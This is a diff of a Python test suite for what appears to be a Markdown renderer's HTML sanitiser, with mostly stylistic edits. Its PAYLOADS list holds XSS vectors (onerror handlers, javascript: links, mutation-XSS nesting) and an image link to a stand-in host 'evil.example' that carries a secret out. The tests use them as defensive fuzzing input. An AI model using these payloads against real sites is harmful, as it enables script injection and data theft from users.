@@ -13,7 +13,7 @@ PAYLOADS = [
     "<img src=x onerror=alert(1)>",
     "<svg/onload=alert(1)>",
     "<iframe src='javascript:alert(1)'></iframe>",
-    "<a href=\"javascript:alert(1)\">x</a>",
+    '<a href="javascript:alert(1)">x</a>',
     "[x](javascript:alert(1))",
     "[x](JaVaScRiPt:alert(1))",
     "[x](java&#115;cript:alert(1))",
@@ -23,17 +23,17 @@ PAYLOADS = [
     "![x](javascript:alert(1))",
     "![x](https://evil.example/?secret)",
     '![x"onerror="alert(1)](https://evil.example/a.png "t\\" onload=x")',
-    "<https://evil.example/\"onmouseover=alert(1)>",
+    '<https://evil.example/"onmouseover=alert(1)>',
     "[x]: javascript:alert(1)\n\n[x]",
-    "```\"><script>alert(1)</script>\ncode\n```",
-    "```js\"onload=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\ncode\n```',
+    '```js"onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
     "| a |\n|:-:|\n| <style>*{display:none}</style> |",
     "<!-- --!><script>alert(1)</script> -->",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
 ]
-TAGS = set("p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code span em strong s a".split()) | set(
-    "table thead tbody tr th td".split()
-)
+TAGS = {"p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "span", "em", "strong", "s", "a"}
+TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
+SIGNS = ["\n", "\n\n", "```", "`", "> ", "- ", '"', "'", "<", ">", "x"]
 
 
 class Page(HTMLParser):
@@ -62,7 +62,7 @@ def test_nothing_runs_and_nothing_loads(payload: str) -> None:
     assert_harmless(payload)
 
 
-@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", "```", "`", "> ", "- ", '"', "'", "<", ">", "x"])).map("".join))
+@given(st.lists(st.sampled_from(PAYLOADS + SIGNS)).map("".join))
 def test_no_mixture_of_payloads_gets_through(text: str) -> None:
     assert_harmless(text)
 
@@ -85,7 +85,7 @@ def test_code_is_highlighted_with_classes_only() -> None:
     assert "style=" not in text
 
 
-@pytest.mark.parametrize("language", ["tsx", "jsx", "ts", "vue", "svelte", "bash", "json", "mjs", "tsx:src/App.tsx", "TSX"])
+@pytest.mark.parametrize("language", ["tsx", "jsx", "ts", "vue", "svelte", "bash", "json", "mjs", "tsx:a.tsx", "TSX"])
 def test_the_languages_of_the_web_are_known(language: str) -> None:
     assert "<span" in render(f"```{language}\nconst a = <b>1</b>\n```")
 
